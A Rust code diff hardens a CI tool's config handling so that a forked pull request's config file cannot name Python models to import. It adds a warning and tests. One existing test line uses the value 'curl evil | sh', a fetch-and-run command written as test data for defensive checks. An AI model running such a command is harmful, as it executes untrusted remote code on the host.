@@ -432,6 +432,7 @@ impl CheckSettings {
         if database_url.is_some() && postgres_image.is_some() {
             return Err(SettingsError::TwoServers);
         }
+        let args_models_unset = args.models.is_none();
         let models = match (
             args.models.map(Ok).or_else(|| layers.path("models")).transpose()?,
             args.models_command.filter(|c| !c.trim().is_empty()).or_else(|| input("models-command")),
@@ -440,6 +441,18 @@ impl CheckSettings {
             (Some(path), None) => Some(Models::from_setting(path)),
             (None, Some(command)) => Some(Models::Command(command)),
             (None, None) => None,
+        };
+        // Models named by module run the repository's Python, as models-command runs a
+        // command: a fork's config file may not ask for that.
+        let from_fork_config = layers.untrusted_file && args_models_unset && self::input(env, "models").is_none();
+        let models = match models {
+            Some(Models::SqlAlchemy(target)) if from_fork_config => {
+                eprintln!(
+                    "warning: models {target} (Python models) is not taken from the repository's config in a pull request from a fork; set it as an input of the workflow (or set the input trust-config: true)"
+                );
+                None
+            }
+            models => models,
         };
         let publish = if in_action { Some(PublishSettings::resolve(&layers)?) } else { None };
         let report_dir = args
@@ -771,6 +784,10 @@ allow-superuser: true
         let s = resolve("true");
         assert_eq!(s.models, Some(Models::Command("curl evil | sh".into())));
         assert!(s.provision.allow_superuser);
+        // Models named by module would import the fork's Python: not from its config either.
+        std::fs::write(&file, "models: app.models:Base\n").unwrap();
+        assert_eq!(resolve("").models, None);
+        assert_eq!(resolve("true").models, Some(Models::SqlAlchemy("app.models:Base".into())));
     }
 
     #[test]
